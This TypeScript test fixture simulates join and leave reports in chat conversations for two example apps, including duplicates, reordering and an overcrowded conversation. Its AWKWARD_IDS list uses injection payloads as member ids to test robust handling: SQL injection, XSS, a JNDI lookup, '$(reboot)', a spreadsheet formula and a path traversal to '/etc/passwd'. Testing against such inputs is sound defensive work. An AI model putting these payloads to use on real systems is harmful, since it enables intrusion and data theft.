import type { Member, Morning } from './morning.ts';

/** An app of the example: who works there, and in which conversations. */
export interface ExampleApp {
  readonly appId: string;
  readonly idKind: 'userId' | 'userExternalId';
  /** How its calls are authorized. */
  readonly auth: 'basic' | 'jwt';
  readonly people: readonly string[];
  readonly conversationIds: readonly string[];
}

/** Field crews: the vendor's own ids, as a system has them that was built around the vendor. */
export function fieldCrews(morning: Morning): ExampleApp {
  return {
    appId: '5ff4a4a1d8c3b2000c9e7f10',
    idKind: 'userId',
    auth: 'basic',
    people: Array.from({ length: 140 }, () => `65a4f00d${morning.hex(16)}`),
    conversationIds: Array.from({ length: 28 }, () => `65a4c0de${morning.hex(16)}`),
  };
}

/** Branches: external ids, as payroll, the directory and an old system or two have them. */
export function branches(morning: Morning): ExampleApp {
  return {
    appId: '60b1e2c3d4f5a6000d8b4e21',
    idKind: 'userExternalId',
    auth: 'jwt',
    people: [...employeeIds(morning), ...AWKWARD_IDS],
    conversationIds: Array.from({ length: 22 }, () => `65a4b7a4${morning.hex(16)}`),
  };
}

function employeeIds(morning: Morning): string[] {
  const numbers = new Set<number>();
  while (numbers.size < 110) numbers.add(morning.int(10_000, 99_999));
  const spellings = [
    (n: number) => `E-${n}`,
    (n: number) => `u${n}@staff.example`,
    (n: number) => String(n),
    (n: number) => `DE/K/${n}`,
    (n: number) => `部署-${n}`,
    (n: number) => `отдел-${n}`,
  ];
  return [...numbers].map((n, index) => (spellings[index % spellings.length] ?? String)(n));
}

/** Valid, every one: an external id may hold anything that can be printed, and each of these is another person. */
const AWKWARD_IDS: readonly string[] = [
  'E-4711',
  'e-4711',
  ' E-4711',
  'größe-31',
  'größe-31'.normalize('NFD'),
  "'; DROP TABLE members; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an id that looks like one
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '$(reboot)',
  '=1+1',
  '%s%n%2f',
  '../../etc/passwd',
  '?userId=*&x=#y',
  '\\\\host\\share',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '0',
  '🦺-0042',
  'שלום-17',
  'x'.repeat(255),
];

export function memberOf(app: ExampleApp, conversationId: string, memberId: string): Member {
  return { appId: app.appId, conversationId, idKind: app.idKind, memberId };
}

/** A crew comes together; some go, others come; and the systems that report it do what such systems do. */
export function ordinaryConversation(morning: Morning, app: ExampleApp, conversationId: string): void {
  const people = morning
    .some(app.people, morning.int(12, 15))
    .map((memberId) => memberOf(app, conversationId, memberId));
  const crew = people.slice(0, -3);
  const joined = crew.map((member) => morning.report('join', member, morning.between(0, 30)));
  for (const member of people.slice(-3)) morning.report('join', member, morning.between(60, 200));
  for (const member of crew.slice(0, 4)) morning.report('leave', member, morning.between(90, 235));
  comesBack(morning, crew[0]);
  changesItsMind(morning, crew[5]);
  isSaidAgain(morning, crew[6]);
  isSentTwice(morning, joined.slice(6, 8));
  arrivesLate(morning, crew[7], crew[8]);
}

/** Left with the others, and is needed again. */
function comesBack(morning: Morning, member: Member | undefined): void {
  if (member && morning.chance(0.4)) morning.report('join', member, morning.between(235.5, 239));
}

/** In, out and in again within seconds; the reports overtake one another. */
function changesItsMind(morning: Morning, member: Member | undefined): void {
  if (!member || morning.chance(0.4)) return;
  const at = morning.between(40, 230);
  const actions = morning.chance(0.5) ? (['leave', 'join'] as const) : (['leave', 'join', 'leave'] as const);
  actions.forEach((action, turn) => {
    morning.report(action, member, at + turn * 0.02, morning.between(0, 0.1));
  });
}

/** A second system reports what the first has reported, as a change of its own. */
function isSaidAgain(morning: Morning, member: Member | undefined): void {
  if (member && morning.chance(0.7)) morning.report('join', member, morning.between(45, 230));
}

/** A producer that had no answer sends the same message again. */
function isSentTwice(morning: Morning, lines: readonly string[]): void {
  for (const line of lines) {
    if (morning.chance(0.5)) morning.arrives(line, morning.between(31, 60));
  }
}

/** Reports that were held up somewhere arrive when a newer one has long been heard, or when there is none. */
function arrivesLate(morning: Morning, overtaken: Member | undefined, late: Member | undefined): void {
  if (overtaken) {
    const at = morning.between(60, 120);
    morning.report('leave', overtaken, at, morning.between(50, 90));
    if (morning.chance(0.7)) morning.report('join', overtaken, at + morning.between(5, 40));
  }
  if (late && morning.chance(0.5)) {
    morning.report('leave', late, morning.between(60, 120), morning.between(20, 100));
  }
}

/** How many may be in the conversation that is too small for a while. */
export const PARTICIPANT_CAP = 12;

/** Two shifts overlap: eighteen are wished for where twelve fit, until the first shift has gone. */
export function crowdedConversation(morning: Morning, app: ExampleApp, conversationId: string): void {
  const people = morning.some(app.people, 18).map((memberId) => memberOf(app, conversationId, memberId));
  const first = people.slice(0, 9);
  for (const member of first) morning.report('join', member, morning.between(0, 20));
  for (const member of people.slice(9)) morning.report('join', member, morning.between(110, 118));
  for (const member of first.slice(0, 7)) morning.report('leave', member, morning.between(150, 160));
}

/** At the very same millisecond somebody comes and goes: what is reported later decides. */
export function undecided(morning: Morning, member: Member, actions: readonly ('join' | 'leave')[]): void {
  const at = Math.floor(morning.between(20, 200));
  actions.forEach((action, turn) => {
    morning.report(action, member, at, 0.05 * (turn + 1));
  });
}
